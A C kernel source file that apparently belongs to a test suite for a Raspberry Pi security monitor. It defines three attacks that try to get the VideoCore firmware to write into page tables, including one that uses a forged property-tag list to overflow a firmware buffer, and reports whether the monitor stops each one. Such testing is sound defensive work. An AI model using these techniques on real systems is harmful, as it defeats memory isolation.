// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the VideoCore of a Raspberry Pi do what Linux may not: its firmware writes
 * its answers where a message is, and runs code for a message that asks for it.
 */
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/string.h>

#include <asm/pgtable.h>

#include "attack.h"

/* Of the mailbox's registers; the property channel; memory without its cache */
#define TO_VIDEOCORE		0x20
#define CHANNEL			8
#define BUS			0xc0000000UL
/* The second word of a message that was answered */
#define ANSWERED		0x80000000U

/* 16 bytes of a table that are all zero, at a multiple of 16; 0 if there are none */
static u64 empty_place(u64 table)
{
	const u64 *words = phys_to_virt(table);
	int i;

	for (i = 0; i < PTRS_PER_PTE; i += 2)
		if (!words[i] && !words[i + 1])
			return table + i * sizeof(*words);
	return 0;
}

/* A message that is a part of a table. The registers are at attack_value. */
static void mailbox(void)
{
	u64 attributes = PTE_ATTRINDX(MT_NORMAL) ^ PTE_ATTRINDX(MT_DEVICE_nGnRE);
	struct donjon_result result;
	struct window window;
	const u32 *answer;
	u64 place;

	if (!open_window(&window))
		return;
	place = empty_place(PAGE_OF(window.entry));
	if (!place) {
		attack_untried("the table is full");
		return;
	}
	result = write_entry(window.entry, kernel_page(PAGE_OF(attack_value)) ^ attributes);
	if (result.status) {
		attack_stopped("refused: %s", attack_why(result));
		return;
	}
	writel(BUS | place | CHANNEL,
	       (void __iomem *)(window.va + offset_in_page(attack_value) + TO_VIDEOCORE));
	answer = (const u32 *)phys_to_virt(place) + 1;
	asm volatile("dc civac, %0\n dsb sy" : : "r" (answer) : "memory");
	if (READ_ONCE(*answer) == ANSWERED)
		attack_succeeded("the VideoCore wrote into a table");
	else
		attack_stopped("the message has no effect");
}

/* A tag that does more than ask, attack_value, by the call that asks */
static void tag(void)
{
	u32 *tags = (u32 *)get_zeroed_page(GFP_KERNEL);
	struct donjon_result result;

	if (!tags) {
		attack_untried("no memory");
		return;
	}
	/* With a buffer of one word */
	tags[0] = attack_value;
	tags[1] = sizeof(u32);
	result = __donjon_call(DONJON_FN_PROPERTIES, virt_to_phys(tags), 4 * sizeof(u32),
			       0, 0, 0, 0);
	if (result.status)
		attack_stopped("refused: %s", attack_why(result));
	else
		attack_succeeded("the VideoCore has it, and says %#llx", (u64)result.value);
	free_page((unsigned long)tags);
}

/*
 * Tags on the list, the first without a buffer. QEMU's firmware writes its answer over
 * the size of the second one, and goes on at a word of its buffer, whose own size leads
 * anywhere.
 */
static void short_tag(void)
{
	static const u32 forged[] = {
		0x30001, 0, 0,
		0x10001, 0x10, 0, 0x99900, 0xf1d30b00, 0xbf, 0,
	};
	u32 *tags = (u32 *)get_zeroed_page(GFP_KERNEL);
	struct donjon_result result;

	if (!tags) {
		attack_untried("no memory");
		return;
	}
	memcpy(tags, forged, sizeof(forged));
	result = __donjon_call(DONJON_FN_PROPERTIES, virt_to_phys(tags), sizeof(forged),
			       0, 0, 0, 0);
	if (result.status)
		attack_stopped("refused: %s", attack_why(result));
	else
		attack_succeeded("the VideoCore has it, and says %#llx", (u64)result.value);
	free_page((unsigned long)tags);
}

DONJON_ATTACK("ask-videocore", "mailbox", mailbox);
DONJON_ATTACK("ask-videocore", "short-tag", short_tag);
DONJON_ATTACK("ask-videocore", "tag", tag);
